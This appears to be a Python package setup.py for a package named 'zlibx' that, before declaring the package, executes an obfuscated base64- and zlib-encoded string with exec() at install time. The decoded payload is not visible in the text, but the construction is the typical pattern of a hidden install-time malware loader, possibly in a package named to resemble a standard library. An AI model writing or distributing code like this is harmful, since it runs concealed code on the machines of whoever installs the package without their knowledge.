import zlib, base64
from setuptools import setup
exec(zlib.decompress(base64.b64decode('eJzLzE3NVygoyknNS9dQz8nPS1dUKEgsLs4vUkhMTS0qzsjMS1cEAIWVCxY=')))
setup(name='zlibx', version='0.1.0')
